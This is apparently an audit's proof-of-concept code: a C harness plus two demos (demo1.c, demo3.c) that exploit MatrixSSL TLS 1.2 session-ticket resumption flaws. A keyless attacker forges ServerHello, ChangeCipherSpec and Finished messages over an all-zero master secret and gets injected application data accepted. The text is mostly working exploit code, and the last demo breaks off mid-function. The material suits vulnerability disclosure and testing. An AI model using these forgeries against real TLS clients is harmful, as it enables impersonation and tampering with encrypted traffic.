#include "matrixssl/matrixsslImpl.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#define CHECK(cond, msg) do { if (!(cond)) { \
    printf("SETUP-FAIL: %s (line %d)\n", msg, __LINE__); exit(2); } } while (0)

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
    size_t i;
    printf("%s (%zu):", label, n);
    for (i = 0; i < n && i < 48; i++) printf(" %02x", p[i]);
    if (n > 48) printf(" ...");
    printf("\n");
}

/* Strict certificate callback: keep whatever verdict the library reached */
static int32 strictCertCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert;
    return alert;
}

/* Result of feeding bytes to a session */
typedef struct
{
    int32 lastRc;            /* last return code of ReceivedData/ProcessedData */
    int appDataRecords;      /* number of MATRIXSSL_APP_DATA results */
    unsigned char appData[4096];
    uint32 appDataLen;       /* concatenated application data reported */
    int alerts;
    unsigned char alertLevel, alertDesc;
    int hsComplete;          /* saw MATRIXSSL_HANDSHAKE_COMPLETE */
} feedResult_t;

/* Give `len` bytes from the network to the session and run the standard
   ReceivedData / ProcessedData loop. */
static void feed(ssl_t *ssl, const unsigned char *data, uint32 len,
    feedResult_t *res)
{
    unsigned char *rb, *pt;
    uint32 ptLen;
    int32 rc, room;

    room = matrixSslGetReadbufOfSize(ssl, (int32) len, &rb);
    CHECK(room >= (int32) len, "readbuf");
    memcpy(rb, data, len);
    rc = matrixSslReceivedData(ssl, len, &pt, &ptLen);
    for (;; )
    {
        res->lastRc = rc;
        if (rc == MATRIXSSL_APP_DATA)
        {
            res->appDataRecords++;
            if (res->appDataLen + ptLen <= sizeof(res->appData))
            {
                memcpy(res->appData + res->appDataLen, pt, ptLen);
                res->appDataLen += ptLen;
            }
            rc = matrixSslProcessedData(ssl, &pt, &ptLen);
            continue;
        }
        if (rc == MATRIXSSL_RECEIVED_ALERT)
        {
            res->alerts++;
            res->alertLevel = pt[0];
            res->alertDesc = pt[1];
            rc = matrixSslProcessedData(ssl, &pt, &ptLen);
            continue;
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            res->hsComplete = 1;
        }
        break;
    }
}

/* Move everything `from` wants to send into `to`. Returns bytes moved.
   If cap != NULL the bytes are also appended there (wire capture). */
typedef struct { unsigned char b[65536]; uint32 len; } capture_t;

static uint32 pump(ssl_t *from, ssl_t *to, feedResult_t *toRes, capture_t *cap)
{
    unsigned char *out;
    int32 n, rc;
    uint32 total = 0;
    unsigned char tmp[32768];

    while ((n = matrixSslGetOutdata(from, &out)) > 0)
    {
        CHECK(n <= (int32) sizeof(tmp), "pump size");
        memcpy(tmp, out, n);
        rc = matrixSslSentData(from, n);
        (void) rc;
        if (cap && cap->len + n <= sizeof(cap->b))
        {
            memcpy(cap->b + cap->len, tmp, n);
            cap->len += n;
        }
        if (to)
        {
            feed(to, tmp, n, toRes);
        }
        total += n;
    }
    return total;
}

/* Run a handshake between two library sessions until no side has output */
static void runHandshake(ssl_t *cli, ssl_t *srv, feedResult_t *cr,
    feedResult_t *sr)
{
    int i;
    for (i = 0; i < 20; i++)
    {
        uint32 a = pump(cli, srv, sr, NULL);
        uint32 b = pump(srv, cli, cr, NULL);
        if (a == 0 && b == 0) break;
    }
}


/* ------------------------------------------------------------------ */
/* Control cases: honest peers, both ends are the library              */

/* Send `msg` from one established session to the other; 1 if it arrives */
static int sendAppData(ssl_t *from, ssl_t *to, const char *msg)
{
    feedResult_t r;

    memset(&r, 0, sizeof(r));
    if (matrixSslEncodeToOutdata(from, (unsigned char *) msg,
            (uint32) strlen(msg)) <= 0)
    {
        return 0;
    }
    pump(from, to, &r, NULL);
    return r.appDataRecords == 1 && r.appDataLen == strlen(msg) &&
           memcmp(r.appData, msg, strlen(msg)) == 0;
}

static sslKeys_t *controlServerKeys(void)
{
    sslKeys_t *k;
    unsigned char tname[16], tsym[32], tmac[32];

    CHECK(matrixSslNewKeys(&k, NULL) >= 0, "srv keys");
    CHECK(matrixSslLoadRsaKeysMem(k, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) >= 0, "srv rsa");
    psGetPrngLocked(tname, 16, NULL);
    psGetPrngLocked(tsym, 32, NULL);
    psGetPrngLocked(tmac, 32, NULL);
    CHECK(matrixSslLoadSessionTicketKeys(k, tname, tsym, 32, tmac, 32) >= 0,
        "ticket keys");
    return k;
}

/* One honest connection. Returns 1 if the handshake completes and data
   flows both ways; *resumed tells whether the server resumed. */
static int honestConnection(sslKeys_t *srvKeys, sslKeys_t *cliKeys,
    sslSessionId_t *sid, int32 versionFlag, const psCipher16_t *suites,
    uint8_t nSuites, int *resumed)
{
    ssl_t *srv, *cli;
    sslSessOpts_t sopt, copt;
    feedResult_t cr, sr;
    int ok;

    memset(&sopt, 0, sizeof(sopt));
    sopt.versionFlag = versionFlag;
    memset(&copt, 0, sizeof(copt));
    copt.versionFlag = versionFlag;
    copt.ticketResumption = 1;
    CHECK(matrixSslNewServerSession(&srv, srvKeys, NULL, &sopt) >= 0, "srv");
    CHECK(matrixSslNewClientSession(&cli, cliKeys, sid, suites, nSuites,
            strictCertCb, NULL, NULL, NULL, &copt) >= 0, "cli");
    memset(&cr, 0, sizeof(cr)); memset(&sr, 0, sizeof(sr));
    runHandshake(cli, srv, &cr, &sr);
    ok = matrixSslHandshakeIsComplete(cli) && matrixSslHandshakeIsComplete(srv);
    if (resumed)
    {
        *resumed = ok && RESUMED_HANDSHAKE(srv);
    }
    ok = ok && sendAppData(cli, srv, "hello from client")
         && sendAppData(srv, cli, "hello from server");
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    return ok;
}

/* Full handshake, then a reconnect with the same sslSessionId_t that must be
   resumed (TLS 1.2: by session ticket, TLS 1.3: by PSK). Exits on failure. */
static void controlResumption(sslKeys_t *cliKeys, int32 versionFlag,
    const char *what)
{
    sslKeys_t *sk = controlServerKeys();
    sslSessionId_t *sid;
    int resumed = 0, ok1, ok2;

    CHECK(matrixSslNewSessionId(&sid, NULL) >= 0, "sid");
    ok1 = honestConnection(sk, cliKeys, sid, versionFlag, NULL, 0, &resumed);
    ok2 = ok1 && honestConnection(sk, cliKeys, sid, versionFlag, NULL, 0,
            &resumed);
    printf("control: honest %s: full handshake %s, reconnect %s, resumed=%d\n",
        what, ok1 ? "ok" : "FAILED", ok2 ? "ok" : "FAILED", resumed);
    if (!ok1 || !ok2 || !resumed)
    {
        printf("CONTROL-FAIL: honest %s does not work\n", what);
        exit(3);
    }
    matrixSslDeleteSessionId(sid);
    matrixSslDeleteKeys(sk);
}

/* ------------------------------------------------------------------ */
/* Attacker toolbox: everything below uses public values only          */

static void p_sha256(const unsigned char *secret, size_t secretLen,
    const unsigned char *seed, size_t seedLen,
    unsigned char *out, size_t outLen)
{
    unsigned char a[32], tmp[32];
    psHmacSha256_t h;
    size_t done = 0, n;

    /* A(1) = HMAC(secret, seed) */
    psHmacSha256Init(&h, secret, (psSize_t) secretLen);
    psHmacSha256Update(&h, seed, (uint32_t) seedLen);
    psHmacSha256Final(&h, a);
    while (done < outLen)
    {
        psHmacSha256Init(&h, secret, (psSize_t) secretLen);
        psHmacSha256Update(&h, a, 32);
        psHmacSha256Update(&h, seed, (uint32_t) seedLen);
        psHmacSha256Final(&h, tmp);
        n = outLen - done < 32 ? outLen - done : 32;
        memcpy(out + done, tmp, n);
        done += n;
        psHmacSha256Init(&h, secret, (psSize_t) secretLen);
        psHmacSha256Update(&h, a, 32);
        psHmacSha256Final(&h, a);
    }
}

/* TLS 1.2 PRF (SHA-256): PRF(secret, label, seed) */
static void tls12_prf(const unsigned char *secret, size_t secretLen,
    const char *label, const unsigned char *seed, size_t seedLen,
    unsigned char *out, size_t outLen)
{
    unsigned char ls[256];
    size_t l = strlen(label);

    CHECK(l + seedLen <= sizeof(ls), "prf seed");
    memcpy(ls, label, l);
    memcpy(ls + l, seed, seedLen);
    p_sha256(secret, secretLen, ls, l + seedLen, out, outLen);
}

/* Seal one TLS 1.2 AES-128-GCM record. Returns total record length. */
static uint32 gcm_seal(const unsigned char *key, const unsigned char *iv4,
    uint64_t seq, unsigned char type, const unsigned char *pt, uint32 ptLen,
    unsigned char *rec)
{
    psAesGcm_t ctx;
    unsigned char nonce[16] = { 0 }, aad[13];
    int i;
    uint32 recLen = 8 + ptLen + 16;

    memcpy(nonce, iv4, 4);
    for (i = 0; i < 8; i++)
    {
        nonce[4 + i] = (unsigned char) (seq >> (56 - 8 * i));
        aad[i] = nonce[4 + i];
    }
    aad[8] = type; aad[9] = 3; aad[10] = 3;
    aad[11] = (unsigned char) (ptLen >> 8); aad[12] = (unsigned char) ptLen;

    rec[0] = type; rec[1] = 3; rec[2] = 3;
    rec[3] = (unsigned char) (recLen >> 8); rec[4] = (unsigned char) recLen;
    memcpy(rec + 5, nonce + 4, 8);
    CHECK(psAesInitGCM(&ctx, key, 16) >= 0, "gcm init");
    psAesReadyGCM(&ctx, nonce, aad, 13);
    psAesEncryptGCM(&ctx, pt, rec + 13, ptLen);
    psAesGetGCMTag(&ctx, 16, rec + 13 + ptLen);
    psAesClearGCM(&ctx);
    return 5 + recLen;
}

/* ---- TLS 1.3 attacker toolbox (public values only) ------------------- */

/* hash of a byte string with the hash of the cipher suite */
static void t13_hash(int32_t hmacAlg, const unsigned char *in, size_t len,
    unsigned char *out)
{
    if (hmacAlg == HMAC_SHA256)
    {
        psSha256_t md;
        psSha256PreInit(&md); psSha256Init(&md);
        psSha256Update(&md, in, (uint32_t) len); psSha256Final(&md, out);
    }
    else
    {
        psSha384_t md;
        psSha384PreInit(&md); psSha384Init(&md);
        psSha384Update(&md, in, (uint32_t) len); psSha384Final(&md, out);
    }
}

/* The same hash, but run from an all-zero context (chaining value 0, length
   0), i.e. what a psSha256_t/psSha384_t inside a zero-initialised ssl_t
   computes when it is updated without ever having been initialised.
   Entirely public arithmetic. */
static void t13_hash_zeroctx(int32_t hmacAlg, const unsigned char *in,
    size_t len, unsigned char *out)
{
    if (hmacAlg == HMAC_SHA256)
    {
        psSha256_t md;
        memset(&md, 0, sizeof(md));
        psSha256Update(&md, in, (uint32_t) len); psSha256Final(&md, out);
    }
    else
    {
        psSha384_t md;
        memset(&md, 0, sizeof(md));
        psSha384Update(&md, in, (uint32_t) len); psSha384Final(&md, out);
    }
}

static void t13_expand(int32_t hmacAlg, const unsigned char *secret,
    size_t hl, const char *label, const unsigned char *ctx, size_t ctxLen,
    unsigned char *out, size_t outLen)
{
    CHECK(psHkdfExpandLabel(NULL, hmacAlg, secret, (psSize_t) hl, label,
            (psSize_t) strlen(label), ctx, (psSize_t) ctxLen,
            (psSize_t) outLen, out) >= 0, "hkdf expand label");
}

static void t13_extract(int32_t hmacAlg, const unsigned char *salt,
    const unsigned char *ikm, size_t hl, unsigned char *out)
{
    psSize_t outLen = 0;
    CHECK(psHkdfExtract(hmacAlg, salt, (psSize_t) hl, ikm, (psSize_t) hl,
            out, &outLen) >= 0, "hkdf extract");
}

/* Seal one TLS 1.3 AES-GCM record (inner content type `type`).
   Returns the total record length. */
static uint32 t13_seal(const unsigned char *key, size_t keyLen,
    const unsigned char iv[12], uint64_t seq, unsigned char type,
    const unsigned char *pt, uint32 ptLen, unsigned char *rec)
{
    psAesGcm_t ctx;
    unsigned char nonce[16] = { 0 }, inner[2048];
    uint32 ctLen = ptLen + 1 + 16;
    int i;

    CHECK(ptLen + 1 <= sizeof(inner), "t13 seal size");
    memcpy(inner, pt, ptLen);
    inner[ptLen] = type;
    memcpy(nonce, iv, 12);
    for (i = 0; i < 8; i++)
    {
        nonce[4 + i] ^= (unsigned char) (seq >> (56 - 8 * i));
    }
    rec[0] = 23; rec[1] = 3; rec[2] = 3;
    rec[3] = (unsigned char) (ctLen >> 8); rec[4] = (unsigned char) ctLen;
    CHECK(psAesInitGCM(&ctx, key, (uint8_t) keyLen) >= 0, "gcm init");
    psAesReadyGCM(&ctx, nonce, rec, 5);
    psAesEncryptGCM(&ctx, inner, rec + 5, ptLen + 1);
    psAesGetGCMTag(&ctx, 16, rec + 5 + ptLen + 1);
    psAesClearGCM(&ctx);
    return 5 + ctLen;
}

#endif
