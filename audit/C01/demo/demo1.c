/*
  demo1: TLS 1.2 client, session-id resumption meeting session-ticket
  resumption.  A network attacker WITHOUT any key completes the client's
  handshake and has its own bytes reported as application data.

  History:
   1a. Genuine full TLS 1.2 handshake (client option ticketResumption = 1)
       against a genuine MatrixSSL server that has NO session ticket keys:
       the client's sslSessionId_t now holds a session id + master secret.
   1b. The server serves 40 other clients (its 32 entry session cache forgets
       the session) and gets session ticket keys loaded.
   1c. The client reconnects with the same sslSessionId_t: genuine full
       handshake, the server issues a ticket (and, as MatrixSSL servers do
       when they issue tickets, an empty session id).  The sslSessionId_t now
       holds BOTH a session id (the one of 1a, never cleared) AND a session
       ticket in state USING_TICKET.  (Any server that sends a session id
       together with a NewSessionTicket leaves the client in the same state.)
   2. The application opens a new client session with that sslSessionId_t.
      The ClientHello carries the session id and the ticket.
   3. The attacker answers with a ServerHello that
        - carries a DIFFERENT session id  -> parseServerHello() zeroes
          ssl->sec.masterSecret and clears SSL_FLAGS_RESUMED,
        - carries no SessionTicket extension -> sessionTicketState becomes
          SESS_TICKET_STATE_IN_LIMBO,
      then a ChangeCipherSpec.  matrixSslDecode() (sslDecode.c, CCS case,
      "hsState == SSL_HS_CERTIFICATE && IN_LIMBO") takes this as "the server
      accepted our ticket", sets SSL_FLAGS_RESUMED and calls sslCreateKeys()
      on the all-zero master secret.  Every key and the Finished verify_data
      are now computable from public values.
   4. The attacker sends Finished and then application data.
*/
#include "harness.h"

static sslKeys_t *cliKeys;
/* The client application always uses this one suite, so the suite the
   attacker selects is also the suite of the cached session */
static const psCipher16_t suites[1] = { TLS_RSA_WITH_AES_128_GCM_SHA256 };

static sslKeys_t *newServerKeys(int withTicketKeys)
{
    sslKeys_t *k;
    unsigned char tname[16], tsym[32], tmac[32];

    CHECK(matrixSslNewKeys(&k, NULL) >= 0, "srv keys");
    CHECK(matrixSslLoadRsaKeysMem(k, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) >= 0, "srv rsa");
    if (withTicketKeys)
    {
        psGetPrngLocked(tname, 16, NULL);
        psGetPrngLocked(tsym, 32, NULL);
        psGetPrngLocked(tmac, 32, NULL);
        CHECK(matrixSslLoadSessionTicketKeys(k, tname, tsym, 32, tmac, 32)
            >= 0, "ticket keys");
    }
    return k;
}

/* One genuine connection between a library client and a library server */
static void genuineConnection(sslKeys_t *srvKeys, sslSessionId_t *sid,
    const char *label)
{
    ssl_t *srv, *cli;
    sslSessOpts_t sopt, copt;
    feedResult_t cr, sr;

    memset(&sopt, 0, sizeof(sopt));
    sopt.versionFlag = SSL_FLAGS_TLS_1_2;
    memset(&copt, 0, sizeof(copt));
    copt.versionFlag = SSL_FLAGS_TLS_1_2;
    copt.ticketResumption = 1;
    CHECK(matrixSslNewServerSession(&srv, srvKeys, NULL, &sopt) >= 0, "srv");
    CHECK(matrixSslNewClientSession(&cli, cliKeys, sid, suites, 1,
            strictCertCb, NULL, NULL, NULL, &copt) >= 0, "cli");
    memset(&cr, 0, sizeof(cr)); memset(&sr, 0, sizeof(sr));
    runHandshake(cli, srv, &cr, &sr);
    CHECK(matrixSslHandshakeIsComplete(cli) && matrixSslHandshakeIsComplete(srv),
        "genuine handshake");
    if (label)
    {
        printf("%s: genuine handshake complete (cipher 0x%04x, resumed=%d);"
            " client sid now: idLen=%d ticketLen=%d ticketState=%d\n", label,
            cli->cipher->ident, !!(cli->flags & SSL_FLAGS_RESUMED),
            (int) sid->idLen, (int) sid->sessionTicketLen,
            (int) sid->sessionTicketState);
    }
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
}

int main(void)
{
    sslKeys_t *srvKeys;
    ssl_t *cli;
    sslSessionId_t *sid, *other;
    sslSessOpts_t copt;
    feedResult_t cr;
    capture_t cap;
    unsigned char clientRandom[32], serverRandom[32];
    unsigned char sh[128], flight[512], rec[512];
    unsigned char ms[48], kb[40], hsHash[32], verify[12], fin[16];
    unsigned char seed[64];
    const unsigned char *chMsg;
    uint32 chLen, shLen, n, off;
    psSha256_t md;
    const char *evil = "INJECTED-BY-ATTACKER-WITHOUT-KEYS";
    int i, lastAlertSent = -1;

    CHECK(matrixSslOpen() >= 0, "open");
    CHECK(matrixSslNewKeys(&cliKeys, NULL) >= 0, "cli keys");
    CHECK(matrixSslLoadRsaKeysMem(cliKeys, NULL, 0, NULL, 0,
            RSA2048CA, RSA2048CA_SIZE) >= 0, "cli CA");
    CHECK(matrixSslNewSessionId(&sid, NULL) >= 0, "sid");

    /* control case: the honest version of what the attacker imitates */
    controlResumption(cliKeys, SSL_FLAGS_TLS_1_2, "TLS 1.2 session ticket resumption");

    /* ---- step 1: genuine history of the client's sslSessionId_t --------- */
    srvKeys = newServerKeys(0);
    genuineConnection(srvKeys, sid, "step 1a");
    for (i = 0; i < 40; i++)
    {
        CHECK(matrixSslNewSessionId(&other, NULL) >= 0, "sid");
        genuineConnection(srvKeys, other, NULL);
        matrixSslDeleteSessionId(other);
    }
    matrixSslDeleteKeys(srvKeys);
    srvKeys = newServerKeys(1);
    genuineConnection(srvKeys, sid, "step 1c");
    CHECK(sid->idLen > 0 && sid->sessionTicketLen > 0, "sid has id and ticket");
    /* The server and all of its keys are gone: the attacker has nothing */
    matrixSslDeleteKeys(srvKeys);

    /* ---- step 2: the client reconnects with its saved session ----------- */
    memset(&copt, 0, sizeof(copt));
    copt.versionFlag = SSL_FLAGS_TLS_1_2;
    copt.ticketResumption = 1;
    CHECK(matrixSslNewClientSession(&cli, cliKeys, sid, suites, 1,
            strictCertCb, NULL, NULL, NULL, &copt) >= 0, "cli 2");
    memset(&cap, 0, sizeof(cap));
    pump(cli, NULL, NULL, &cap);
    CHECK(cap.len > 5 + 4 + 2 + 32 && cap.b[0] == 22 && cap.b[5] == 1,
        "ClientHello capture");
    chMsg = cap.b + 5;
    chLen = ((uint32) cap.b[3] << 8) + cap.b[4];
    CHECK(chLen + 5 == cap.len, "single ClientHello record");
    memcpy(clientRandom, chMsg + 4 + 2, 32);
    printf("step 2: ClientHello of %u bytes, offers a session id of %d bytes"
        " and the ticket\n", chLen, chMsg[4 + 2 + 32]);

    /* ---- step 3: attacker's ServerHello + CCS + Finished ---------------- */
    for (i = 0; i < 32; i++) serverRandom[i] = (unsigned char) (0x40 + i);
    off = 0;
    sh[off++] = 2; sh[off++] = 0; sh[off++] = 0; sh[off++] = 0; /* hdr */
    sh[off++] = 3; sh[off++] = 3;
    memcpy(sh + off, serverRandom, 32); off += 32;
    sh[off++] = 32;
    memset(sh + off, 0xAA, 32); off += 32;      /* a different session id */
    sh[off++] = 0x00; sh[off++] = 0x9C;         /* TLS_RSA_WITH_AES_128_GCM_SHA256 */
    sh[off++] = 0;                              /* compression, no extensions */
    shLen = off;
    sh[3] = (unsigned char) (shLen - 4);

    /* keys and verify_data from the all-zero master secret */
    memset(ms, 0, sizeof(ms));
    memcpy(seed, serverRandom, 32); memcpy(seed + 32, clientRandom, 32);
    tls12_prf(ms, 48, "key expansion", seed, 64, kb, sizeof(kb));
    /* kb: client key[16] server key[16] client iv[4] server iv[4] */
    psSha256PreInit(&md);
    psSha256Init(&md);
    psSha256Update(&md, chMsg, chLen);
    psSha256Update(&md, sh, shLen);
    psSha256Final(&md, hsHash);
    tls12_prf(ms, 48, "server finished", hsHash, 32, verify, 12);
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = 12;
    memcpy(fin + 4, verify, 12);

    n = 0;
    flight[n++] = 22; flight[n++] = 3; flight[n++] = 3;
    flight[n++] = 0; flight[n++] = (unsigned char) shLen;
    memcpy(flight + n, sh, shLen); n += shLen;
    flight[n++] = 20; flight[n++] = 3; flight[n++] = 3;     /* CCS */
    flight[n++] = 0; flight[n++] = 1; flight[n++] = 1;
    n += gcm_seal(kb + 16, kb + 36, 0, 22, fin, 16, flight + n);

    memset(&cr, 0, sizeof(cr));
    feed(cli, flight, n, &cr);
    printf("step 3: fed ServerHello+CCS+Finished: rc=%d, client hsState=%d,"
        " flags RESUMED=%d READ_SECURE=%d\n", cr.lastRc, cli->hsState,
        !!(cli->flags & SSL_FLAGS_RESUMED),
        !!(cli->flags & SSL_FLAGS_READ_SECURE));
    memset(&cap, 0, sizeof(cap));
    pump(cli, NULL, NULL, &cap);
    if (cap.len >= 7 && cap.b[0] == 21) lastAlertSent = cap.b[6];
    hexdump("        client output", cap.b, cap.len);
    printf("        matrixSslHandshakeIsComplete(client)=%d\n",
        (int) matrixSslHandshakeIsComplete(cli));

    /* ---- step 4: attacker's application data ---------------------------- */
    n = gcm_seal(kb + 16, kb + 36, 1, 23, (const unsigned char *) evil,
            (uint32) strlen(evil), rec);
    memset(&cr, 0, sizeof(cr));
    feed(cli, rec, n, &cr);
    printf("step 4: fed attacker's application_data record: rc=%d,"
        " APP_DATA records=%d\n", cr.lastRc, cr.appDataRecords);
    if (cr.appDataRecords > 0)
    {
        printf("VIOLATION: client reported %u bytes of application data \"%.*s\""
            " from an attacker that holds no key (handshake complete=%d,"
            " server never authenticated)\n", cr.appDataLen,
            (int) cr.appDataLen, cr.appData,
            (int) matrixSslHandshakeIsComplete(cli));
        /* the client will also encrypt its own data under the known keys */
        if (matrixSslEncodeToOutdata(cli, (unsigned char *) "client secret", 13)
            > 0)
        {
            printf("           and matrixSslEncodeToOutdata() encrypts client"
                " data under keys the attacker can compute\n");
        }
        return 1;
    }
    printf("OK: the client refused the attacker's handshake (alert %d sent),"
        " nothing was reported as application data\n", lastAlertSent);
    return 0;
}
