/*
  demo3: second way into the sink of demo1, through a different defect.

  matrixSslNewClientSession() (matrixsslApi.c, "Explicit cipher suite will
  override session cache") reacts to an explicit cipher list that does not
  contain the cached suite by wiping sid->id, sid->masterSecret and
  sid->cipherId - but it leaves the session ticket (and its USING_TICKET
  state) in the sslSessionId_t.  The new session therefore starts with an
  all-zero ssl->sec.masterSecret and still offers the ticket in its
  ClientHello.  A ServerHello without SessionTicket extension puts the
  client into SESS_TICKET_STATE_IN_LIMBO, and the ChangeCipherSpec that
  follows makes matrixSslDecode() (sslDecode.c, CCS case) "resume" on that
  all-zero master secret.

  History:
   1. genuine TLS 1.2 handshake, client options ticketResumption = 1 and
      cipher list { TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384 }, genuine server
      with ticket keys: the sslSessionId_t holds a ticket.
   2. the application reconnects with the same sslSessionId_t but the cipher
      list { TLS_RSA_WITH_AES_128_GCM_SHA256 }.
   3. attacker (no keys): ServerHello (no extensions), ChangeCipherSpec,
      Finished, application data - all computed from public values.
*/
#include "harness.h"

int main(void)
{
    sslKeys_t *srvKeys, *cliKeys;
    ssl_t *cli, *srv;
    sslSessionId_t *sid;
    sslSessOpts_t copt, sopt;
    feedResult_t cr, sr;
    capture_t cap;
    unsigned char tname[16], tsym[32], tmac[32];
    unsigned char clientRandom[32], serverRandom[32];
    unsigned char sh[128], flight[512], rec[512];
    unsigned char ms[48], kb[40], hsHash[32], verify[12], fin[16], seed[64];
    const unsigned char *chMsg;
    uint32 chLen, shLen, n, off;
    psSha256_t md;
    psCipher16_t first[1] = { TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384 };
    psCipher16_t second[1] = { TLS_RSA_WITH_AES_128_GCM_SHA256 };
    const char *evil = "INJECTED-BY-ATTACKER-WITHOUT-KEYS";
    int i, lastAlertSent = -1;

    CHECK(matrixSslOpen() >= 0, "open");
    CHECK(matrixSslNewKeys(&cliKeys, NULL) >= 0, "cli keys");
    CHECK(matrixSslLoadRsaKeysMem(cliKeys, NULL, 0, NULL, 0,
            RSA2048CA, RSA2048CA_SIZE) >= 0, "cli CA");
    CHECK(matrixSslNewSessionId(&sid, NULL) >= 0, "sid");

    /* control case: the honest version of what the attacker imitates */
    controlResumption(cliKeys, SSL_FLAGS_TLS_1_2, "TLS 1.2 session ticket resumption");

    /* second control: an honest client that changes its cipher list between
       two connections to an honest server (informational on the unrepaired
       library: there the reconnect offers a ticket it has no secret for) */
    {
        sslKeys_t *sk = controlServerKeys();
        sslSessionId_t *s2;
        int res = 0, ok1, ok2;

        CHECK(matrixSslNewSessionId(&s2, NULL) >= 0, "sid");
        ok1 = honestConnection(sk, cliKeys, s2, SSL_FLAGS_TLS_1_2, first, 1, &res);
        ok2 = honestConnection(sk, cliKeys, s2, SSL_FLAGS_TLS_1_2, second, 1, &res);
        printf("control: honest reconnect with another cipher list: first %s,"
            " second %s (resumed=%d)\n", ok1 ? "ok" : "FAILED",
            ok2 ? "ok" : "FAILED", res);
        matrixSslDeleteSessionId(s2);
        matrixSslDeleteKeys(sk);
    }

    /* ---- step 1: genuine connection ---------------------------------------- */
    CHECK(matrixSslNewKeys(&srvKeys, NULL) >= 0, "srv keys");
    CHECK(matrixSslLoadRsaKeysMem(srvKeys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) >= 0, "srv rsa");
    psGetPrngLocked(tname, 16, NULL);
    psGetPrngLocked(tsym, 32, NULL);
    psGetPrngLocked(tmac, 32, NULL);
    CHECK(matrixSslLoadSessionTicketKeys(srvKeys, tname, tsym, 32, tmac, 32)
        >= 0, "ticket keys");
    memset(&sopt, 0, sizeof(sopt));
    sopt.versionFlag = SSL_FLAGS_TLS_1_2;
    memset(&copt, 0, sizeof(copt));
    copt.versionFlag = SSL_FLAGS_TLS_1_2;
    copt.ticketResumption = 1;
    CHECK(matrixSslNewServerSession(&srv, srvKeys, NULL, &sopt) >= 0, "srv");
    CHECK(matrixSslNewClientSession(&cli, cliKeys, sid, first, 1,
            strictCertCb, NULL, NULL, NULL, &copt) >= 0, "cli");
    memset(&cr, 0, sizeof(cr)); memset(&sr, 0, sizeof(sr));
    runHandshake(cli, srv, &cr, &sr);
    CHECK(matrixSslHandshakeIsComplete(cli) && matrixSslHandshakeIsComplete(srv),
        "genuine handshake");
    printf("step 1: genuine handshake complete (cipher 0x%04x); client sid:"
        " idLen=%d ticketLen=%d ticketState=%d cipherId=0x%04x\n",
        cli->cipher->ident, (int) sid->idLen, (int) sid->sessionTicketLen,
        (int) sid->sessionTicketState, sid->cipherId);
    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(srvKeys);       /* the attacker has no key at all */

    /* ---- step 2: reconnect with another explicit cipher list --------------- */
    memset(&copt, 0, sizeof(copt));
    copt.versionFlag = SSL_FLAGS_TLS_1_2;
    copt.ticketResumption = 1;
    CHECK(matrixSslNewClientSession(&cli, cliKeys, sid, second, 1,
            strictCertCb, NULL, NULL, NULL, &copt) >= 0, "cli 2");
    for (i = 0, n = 0; i < SSL_HS_MASTER_SIZE; i++) n |= cli->sec.masterSecret[i];
    printf("step 2: new client session: sid cipherId=0x%04x ticketLen=%d"
        " ticketState=%d; ssl->sec.masterSecret is %s\n", sid->cipherId,
        (int) sid->sessionTicketLen, (int) sid->sessionTicketState,
        n == 0 ? "all zero" : "set");
    memset(&cap, 0, sizeof(cap));
    pump(cli, NULL, NULL, &cap);
    CHECK(cap.len > 5 + 4 + 2 + 32 && cap.b[0] == 22 && cap.b[5] == 1,
        "ClientHello capture");
    chMsg = cap.b + 5;
    chLen = ((uint32) cap.b[3] << 8) + cap.b[4];
    CHECK(chLen + 5 == cap.len, "single ClientHello record");
    memcpy(clientRandom, chMsg + 4 + 2, 32);
    printf("        ClientHello of %u bytes (still carries the %d byte ticket)\n",
        chLen, (int) sid->sessionTicketLen);

    /* ---- step 3: attacker -------------------------------------------------- */
    for (i = 0; i < 32; i++) serverRandom[i] = (unsigned char) (0x40 + i);
    off = 0;
    sh[off++] = 2; sh[off++] = 0; sh[off++] = 0; sh[off++] = 0;
    sh[off++] = 3; sh[off++] = 3;
    memcpy(sh + off, serverRandom, 32); off += 32;
    sh[off++] = 0;                              /* empty session id */
    sh[off++] = 0x00; sh[off++] = 0x9C;         /* TLS_RSA_WITH_AES_128_GCM_SHA256 */
    sh[off++] = 0;                              /* compression, no extensions */
    shLen = off;
    sh[3] = (unsigned char) (shLen - 4);

    memset(ms, 0, sizeof(ms));
    memcpy(seed, serverRandom, 32); memcpy(seed + 32, clientRandom, 32);
    tls12_prf(ms, 48, "key expansion", seed, 64, kb, sizeof(kb));
    psSha256PreInit(&md);
    psSha256Init(&md);
    psSha256Update(&md, chMsg, chLen);
    psSha256Update(&md, sh, shLen);
    psSha256Final(&md, hsHash);
    tls12_prf(ms, 48, "server finished", hsHash, 32, verify, 12);
    fin[0] = 20; fin[1] = 0; fin[2] = 0; fin[3] = 12;
    memcpy(fin + 4, verify, 12);

    n = 0;
    flight[n++] = 22; flight[n++] = 3; flight[n++] = 3;
    flight[n++] = 0; flight[n++] = (unsigned char) shLen;
    memcpy(flight + n, sh, shLen); n += shLen;
    flight[n++] = 20; flight[n++] = 3; flight[n++] = 3;
    flight[n++] = 0; flight[n++] = 1; flight[n++] = 1;
    n += gcm_seal(kb + 16, kb + 36, 0, 22, fin, 16, flight + n);
    memset(&cr, 0, sizeof(cr));
    feed(cli, flight, n, &cr);
    printf("step 3: fed ServerHello+CCS+Finished: rc=%d, client hsState=%d,"
        " RESUMED=%d\n", cr.lastRc, cli->hsState,
        !!(cli->flags & SSL_FLAGS_RESUMED));
    memset(&cap, 0, sizeof(cap));
    pump(cli, NULL, NULL, &cap);
    if (cap.len >= 7 && cap.b[0] == 21) lastAlertSent = cap.b[6];
